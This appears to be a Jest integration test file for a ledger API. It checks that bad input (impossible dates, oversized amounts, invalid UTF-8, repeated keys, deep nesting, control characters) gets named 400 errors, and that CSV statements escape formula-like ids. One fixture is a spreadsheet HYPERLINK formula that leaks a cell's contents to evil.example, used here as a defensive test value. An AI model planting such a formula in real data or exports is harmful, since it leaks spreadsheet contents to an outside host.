import { ProjectionHost } from '@ledger/platform/projections';
import { cloudEvent } from '../support/events';
import { at, usd } from '../support/ledger-scenario';
import { bearer, KEYS, startTestApp, type TestApp } from '../support/test-app';

/**
 * SPEC §2 "Strictness": every class of input the ledger refuses, through the real HTTP stack.
 * Each answer is a 400 (or a `rejected` verdict) naming the field, never a 500, and nothing is
 * stored. The unit specs beside the parsers (libs/events date-time, strict-json; libs/money
 * parse-money; libs/csv; apps/cli option-parsers) cover the parsers case by case.
 */
describe('strict input (SPEC §2, §5)', () => {
  let t: TestApp;
  const head = async () => (await t.http.get('/health')).body.eventStore.headPosition as number;
  const catchUp = () => t.app.get(ProjectionHost).catchUp();
  const get = (path: string, key = KEYS.finance) => t.http.get(path).set(bearer(key));
  // Bytes as they are: superagent would serialize a Buffer as JSON of its own.
  const postRaw = (path: string, body: string | Buffer, key = KEYS.finance) =>
    t.http
      .post(path)
      .set(bearer(key))
      .set('Content-Type', 'application/json')
      .serialize((raw: unknown) => raw as string)
      .send(body);
  const post = (path: string, body: unknown, key = KEYS.finance) =>
    t.http
      .post(path)
      .set(bearer(key))
      .send(body as object);

  /** A 400 in the shape of every rejection, with exactly these problems. */
  const expect400 = (response: { status: number; body: unknown }, errors: Array<{ path: string; message: unknown }>) => {
    expect({ status: response.status, body: response.body }).toEqual({
      status: 400,
      body: { statusCode: 400, error: 'Bad Request', message: expect.any(String), errors },
    });
  };

  const enrolled = cloudEvent(
    'partner.enrolled',
    { partnerId: 'P-1', name: 'Acme Partners', partnerType: 'reseller' },
    { time: at('01-05') },
  );
  // An upstream id that a spreadsheet would run as a formula if written raw.
  const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")';

  beforeAll(async () => {
    t = await startTestApp();
    const facts = [
      enrolled,
      cloudEvent('click.recorded', { partnerId: 'P-1', visitorId: 'v-1' }, { time: at('02-01') }),
      cloudEvent('customer.identified', { customerId: 'CU-1', visitorId: 'v-1' }, { time: at('02-01') }),
      cloudEvent(
        'deal.closed_won',
        { conversionId: FORMULA, customerId: 'CU-1', accountDomain: 'acme.com', amount: usd('1000.00') },
        { time: at('02-10') },
      ),
      cloudEvent('invoice.refunded', { conversionId: FORMULA, amount: usd('100.00') }, { time: at('02-20') }),
    ];
    const { body } = await post('/v1/events', facts, KEYS.ingest).expect(200);
    expect(body.results.map((r: { status: string }) => r.status)).toEqual(facts.map(() => 'accepted'));
    await catchUp();
  });
  afterAll(async () => t?.close());

  describe('impossible dates and instants', () => {
    it('in an event: an instant before year 0001 in UTC is rejected by name (it was stored and answered 500)', async () => {
      const before = await head();
      const event = cloudEvent(
        'partner.enrolled',
        { partnerId: 'P-9', name: 'Early', partnerType: 'reseller' },
        { time: '0001-01-01T00:00:00+01:00' },
      );
      const { body } = await post('/v1/events', event, KEYS.ingest).expect(200);
      expect(body.results).toEqual([
        expect.objectContaining({
          status: 'rejected',
          errors: [
            {
              path: 'time',
              message: '"0001-01-01T00:00:00+01:00" is before 0001-01-01T00:00:00Z once converted to UTC; years go from 0001 to 9999',
            },
          ],
        }),
      ]);
      const feb30 = await post('/v1/events', { ...event, id: 'evt-feb-30', time: '2025-02-30T10:00:00Z' }, KEYS.ingest).expect(200);
      expect(feb30.body.results[0].errors).toEqual([
        { path: 'time', message: '"2025-02-30T10:00:00Z" has day 30, but February 2025 has 28 days' },
      ]);
      expect(await head()).toBe(before);
    });

    it.each([
      ['/v1/partners/P-1/balance?asOf=2025-02-30', 'asOf', '"2025-02-30" has day 30, but February 2025 has 28 days'],
      ['/v1/partners/P-1/balance?knownAt=2026-04-31T10:00:00Z', 'knownAt', '"2026-04-31T10:00:00Z" has day 31, but April 2026 has 30 days'],
      ['/v1/partners/P-1/statement?from=2025-02-29', 'from', '"2025-02-29" has day 29, but February 2025 has 28 days'],
      ['/v1/reports/kpis?asOf=2025-02-30', 'asOf', '"2025-02-30" has day 30, but February 2025 has 28 days'],
      [
        '/v1/reports/partner-sourced-revenue?to=9999-12-31T23:59:59-23:59',
        'to',
        expect.stringMatching(/is after 9999-12-31T23:59:59.999Z once converted to UTC/),
      ],
      ['/v1/reports/partner-sourced-revenue?from=0000-12-31', 'from', '"0000-12-31" has year 0000; years go from 0001 to 9999'],
    ])('in a query parameter: %s is a 400 naming it (it was rolled over, or a 500)', async (path, name, message) => {
      expect400(await get(path), [{ path: name, message }]);
    });

    it('in a body field: effectiveFrom 2025-02-30 is a 400 naming it, and no adoption is stored (it was 201 and stopped attribution)', async () => {
      const before = await head();
      const response = await post('/v1/attribution/policies', {
        policy: { version: 'first-click-v2', model: 'first_click' },
        effectiveFrom: '2025-02-30',
      });
      expect400(response, [{ path: 'effectiveFrom', message: '"2025-02-30" has day 30, but February 2025 has 28 days' }]);
      expect((await get('/v1/attribution/policies').expect(200)).body.map((p: { version: string }) => p.version)).toEqual(['default-v1']);
      expect(await head()).toBe(before);
    });

    it.each([
      ['/v1/simulations', { from: '2025-02-30' }, 'from', '"2025-02-30" has day 30, but February 2025 has 28 days'],
      ['/v1/simulations', { to: '2026-06-31T00:00:00Z' }, 'to', '"2026-06-31T00:00:00Z" has day 31, but June 2026 has 30 days'],
      [
        '/v1/payout-runs',
        { asOf: '2026-02-30', minimum: { USD: '1.00' } },
        'asOf',
        '"2026-02-30" has day 30, but February 2026 has 28 days',
      ],
      [
        '/v1/payout-runs',
        { asOf: '0001-01-01T00:30:00+01:00', minimum: { USD: '1.00' } },
        'asOf',
        expect.stringMatching(/is before 0001-01-01T00:00:00Z once converted to UTC/),
      ],
    ])('in a body field: POST %s %j is a 400 naming it', async (path, body, name, message) => {
      const before = await head();
      expect400(await post(path, body), [{ path: name, message }]);
      expect(await head()).toBe(before);
    });
  });

  describe('amounts with more than 15 digits before the decimal point', () => {
    it('in an event: rejected naming the amount (a 1000-digit amount was accepted)', async () => {
      const closed = (amount: string) =>
        cloudEvent('deal.closed_won', {
          conversionId: `C-${amount.length}`,
          customerId: 'CU-1',
          accountDomain: 'acme.com',
          amount: usd(amount),
        });
      const { body } = await post('/v1/events', [closed('1000000000000000.00'), closed('9'.repeat(1000))], KEYS.ingest).expect(200);
      expect(body.results.map((r: { status: string; errors: unknown }) => [r.status, r.errors])).toEqual([
        [
          'rejected',
          [
            {
              path: '[0].data.amount.amount',
              message: '"1000000000000000.00" has 16 digits before the decimal point; an amount has at most 15',
            },
          ],
        ],
        [
          'rejected',
          [
            {
              path: '[1].data.amount.amount',
              message: expect.stringMatching(/\(1000 characters\) has 1000 digits before the decimal point; an amount has at most 15$/),
            },
          ],
        ],
      ]);
      const fifteen = await post('/v1/events', closed('999999999999999.99'), KEYS.ingest).expect(200);
      expect(fifteen.body.results[0].status).toBe('accepted');
    });

    it('in an adjustment and in payout-run minimums: a 400 naming the field', async () => {
      const before = await head();
      expect400(await post('/v1/adjustments', { partnerId: 'P-1', amount: usd('-1234567890123456.00'), reason: 'too big' }), [
        { path: 'amount.amount', message: '"-1234567890123456.00" has 16 digits before the decimal point; an amount has at most 15' },
      ]);
      expect400(await post('/v1/payout-runs', { minimum: { USD: '1000000000000000' } }), [
        { path: 'minimum.USD', message: '"1000000000000000" has 16 digits before the decimal point; an amount has at most 15' },
      ]);
      expect(await head()).toBe(before);
    });
  });

  describe('bodies that are not strict JSON', () => {
    it('bytes that are not UTF-8 are a 400 naming the string (they were stored as U+FFFD, so two ids collapsed)', async () => {
      const before = await head();
      const event = (byte: number) =>
        Buffer.concat([
          Buffer.from('{"specversion":"1.0","id":"evt-'),
          Buffer.from([byte]),
          Buffer.from(
            '","source":"crm","type":"partner.enrolled","time":"2026-03-01T09:00:00Z","data":{"partnerId":"P-5","name":"Five","partnerType":"reseller"}}',
          ),
        ]);
      expect400(await postRaw('/v1/events', event(0xff), KEYS.ingest), [
        { path: 'id', message: 'is not valid UTF-8 text (byte 0xFF at offset 31 of the request body)' },
      ]);
      expect400(await postRaw('/v1/events', event(0xfe), KEYS.ingest), [
        { path: 'id', message: 'is not valid UTF-8 text (byte 0xFE at offset 31 of the request body)' },
      ]);
      expect400(await postRaw('/v1/adjustments', Buffer.from([0x7b, 0xc3, 0x28, 0x7d])), [
        { path: '', message: expect.stringMatching(/^the request body is not valid UTF-8 text \(byte 0xC3 at offset 1\)/) },
      ]);
      expect(await head()).toBe(before);
    });

    it('a key repeated in one object is a 400 naming it (JSON.parse kept the last value)', async () => {
      const before = await head();
      expect400(
        await postRaw(
          '/v1/adjustments',
          '{"partnerId":"P-1","amount":{"amount":"5.00","currency":"USD"},"reason":"bonus","partnerId":"P-2"}',
        ),
        [{ path: 'partnerId', message: 'is repeated in this object; a field may appear only once' }],
      );
      const event = JSON.stringify(
        cloudEvent('deal.closed_won', { conversionId: 'C-dup', customerId: 'CU-1', accountDomain: 'acme.com', amount: usd('10.00') }),
      );
      const repeated = event.replace('"amount":"10.00"', '"amount":"10.00","amount":"99999.00"');
      expect400(await postRaw('/v1/events', `[${repeated}]`, KEYS.ingest), [
        { path: '[0].data.amount.amount', message: expect.stringMatching(/repeated/) },
      ]);
      expect(await head()).toBe(before);
    });

    it('65 levels of nesting are a 400 naming where, 64 are read', async () => {
      const before = await head();
      const nested = (levels: number) => `{"minimum":{"USD":"1.00"},"deep":${'['.repeat(levels - 1)}${']'.repeat(levels - 1)}}`;
      expect400(await postRaw('/v1/payout-runs', nested(65)), [
        { path: `deep${'[0]'.repeat(63)}`, message: 'nests deeper than 64 levels of objects and arrays' },
      ]);
      expect400(await postRaw('/v1/adjustments', '['.repeat(2000) + ']'.repeat(2000)), [
        { path: '[0]'.repeat(64), message: expect.stringMatching(/deeper than 64 levels/) },
      ]);
      // 64 levels are JSON the ledger reads: the request fails on its content, not its shape.
      expect400(await postRaw('/v1/payout-runs', nested(64)), [
        { path: 'deep', message: expect.stringMatching(/is not a field of this request/) },
      ]);
      expect(await head()).toBe(before);
    });

    it('a NUL character in a string or a field name is a 400 naming it', async () => {
      const before = await head();
      expect400(await post('/v1/adjustments', { partnerId: 'P-1', amount: usd('5.00'), reason: 'bonus\u0000' }), [
        { path: 'reason', message: 'must not contain the NUL character (U+0000)' },
      ]);
      expect400(await post('/v1/adjustments', { partnerId: 'P-1', amount: { ...usd('5.00'), 'x\u0000': 1 }, reason: 'bonus' }), [
        { path: 'amount["x\\u0000"]', message: 'the field name must not contain the NUL character (U+0000)' },
      ]);
      expect400(
        await post('/v1/attribution/policies', { policy: { version: 'v\u0000', model: 'first_click' }, effectiveFrom: '2026-01-01' }),
        [{ path: 'policy.version', message: 'must not contain the NUL character (U+0000)' }],
      );
      expect(await head()).toBe(before);
    });

    it('a NUL character in one event of a batch rejects that event only', async () => {
      const good = cloudEvent('click.recorded', { partnerId: 'P-1', visitorId: 'v-nul-ok' });
      const bad = cloudEvent('click.recorded', { partnerId: 'P-1', visitorId: 'v\u0000' });
      const { body } = await post('/v1/events', [good, bad], KEYS.ingest).expect(200);
      expect(body.results.map((r: { status: string; errors: unknown }) => [r.status, r.errors])).toEqual([
        ['accepted', []],
        ['rejected', [{ path: '[1].data.visitorId', message: 'must not contain the NUL character (U+0000)' }]],
      ]);
    });
  });

  describe('path segments and query parameters', () => {
    it.each([
      ['/v1/partners/%00/balance', 'id', 'must not contain control characters such as NUL (found U+0000 in "\\u0000")'],
      ['/v1/partners/P%001/statement?format=csv', 'id', 'must not contain control characters such as NUL (found U+0000 in "P\\u00001")'],
      ['/v1/partners/a%01b/tier', 'id', 'must not contain control characters such as NUL (found U+0001 in "a\\u0001b")'],
      [
        '/v1/conversions/a%00b/attribution',
        'conversionId',
        'must not contain control characters such as NUL (found U+0000 in "a\\u0000b")',
      ],
      ['/v1/simulations/x%00', 'id', expect.stringMatching(/found U\+0000/)],
    ])('a control character in a path segment: GET %s is a 400 naming it (NUL answered 500)', async (path, name, message) => {
      expect400(await get(path), [{ path: name, message }]);
    });

    it.each([
      ['/v1/reports/partner-sourced-revenue?groupBy=partner%00', 'groupBy', expect.stringMatching(/found U\+0000 in "partner\\u0000"/)],
      ['/v1/partners/P-1/balance?asOf=2026-03-01%0A', 'asOf', expect.stringMatching(/found U\+000A/)],
      ['/v1/partners/P-1/balance?asOf=2026-03-01&asOf=2026-04-01', 'asOf', 'is given 2 times; give it once'],
      ['/v1/partners/P-1/balance?a%00=1', '["a\\u0000"]', expect.stringMatching(/^the parameter name must not contain control characters/)],
    ])('a query parameter: GET %s is a 400 naming it', async (path, name, message) => {
      expect400(await get(path), [{ path: name, message }]);
    });

    it('authentication still comes first', async () => {
      await t.http.get('/v1/partners/%00/balance').expect(401);
    });
  });

  it('a statement CSV writes an upstream id that looks like a formula as text, and negative amounts with a leading quote', async () => {
    const csv = await get('/v1/partners/P-1/statement?format=csv').expect(200);
    const lines = csv.text.trim().split('\n');
    expect(lines).toHaveLength(3);
    for (const line of lines.slice(1)) {
      // RFC 4180 quotes the cell (it holds quotes and a comma); inside, the formula starts with "'".
      expect(line).toContain(`,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open"")",`);
      expect(line).not.toMatch(/(^|,)"?=/);
    }
    expect(lines[2]).toContain(',clawback,');
    expect(lines[2]).toContain(",'-20.00,180.00,");
  });
});
